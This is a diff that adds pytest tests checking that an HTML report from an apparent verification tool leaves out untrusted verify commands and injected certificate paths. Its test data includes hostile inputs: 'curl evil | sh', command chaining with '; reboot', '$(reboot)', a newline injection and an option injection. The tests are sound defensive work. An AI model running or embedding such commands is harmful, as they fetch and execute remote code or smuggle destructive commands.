@@ -309,3 +309,35 @@ def test_on_paper_everything_is_open(browser, files):
     shown = browser.value("document.querySelector('details pre').getBoundingClientRect().height")
     browser.call("Emulation.setEmulatedMedia", media="")
     assert shown > 0
+
+
+def commands(text: str) -> list[str]:
+    return re.findall(r'<pre class="command"[^>]*><code>(.*?)</code>', text, flags=re.DOTALL)
+
+
+@pytest.mark.parametrize("verify", ["alignver verify proof; reboot", "curl evil | sh", ""])
+def test_a_command_that_is_not_ours_is_left_out_in_words(verify):
+    text = page(Report((result(),), {**PROVENANCE, "verify": verify}))
+    assert commands(text) == []
+    assert "is left out" in text
+    assert not verify or verify not in text
+
+
+def test_a_path_that_a_report_names_is_no_option_and_no_command():
+    found = {"claim": "rank(A) == 4", "method": "exact", "seal": "0" * 64}
+    kept = {key: value for key, value in PROVENANCE.items() if key != "verify"}
+
+    def shown(path):
+        return page(Report((result(certificate={**found, "path": path}),), kept))
+
+    assert commands(shown("proof")) == ["alignver verify proof"]
+    for path in ("--model=evil.py:build", "$(reboot)", "a\nreboot", "a\x1b[8m"):
+        assert commands(shown(path)) == []
+
+
+def test_a_command_that_runs_code_says_so():
+    command = "alignver verify proof --model net.py:build --data a.npz --loss squared"
+    text = page(Report((result(),), {**PROVENANCE, "verify": command}))
+    assert commands(text) == [command]
+    assert "is imported and run" in text
+    assert "is imported and run" not in page(REPORT)
